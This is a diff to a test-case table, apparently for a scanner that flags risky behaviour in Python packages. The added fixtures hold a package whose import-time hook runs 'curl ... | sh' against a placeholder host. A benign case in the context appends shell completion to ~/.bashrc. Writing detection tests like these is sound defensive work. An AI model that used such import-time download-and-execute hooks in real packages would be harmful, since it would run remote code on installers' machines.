@@ -350,6 +350,12 @@ CASES = [
     ({"demo/cli.py": "import os\ndef completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
                      "        f.write('eval \"$(demo completion)\"')\n"},
      "code.persistence", None, "benign: a CLI installing shell completion when asked"),
+    ({"demo/__init__.py": "from .installer import install\ninstall()\n",
+      "demo/installer.py": "import os\ndef install():\n    os.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", H, "a function another module imports and calls at import runs on import"),
+    ({"demo/__init__.py": "from .installer import install\n",
+      "demo/installer.py": "import os\ndef install():\n    os.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", L, "imported but not called: it runs when called (tools fetch installers)"),
     # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
     ({"demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
       "demo-1.0/versioner.py": (
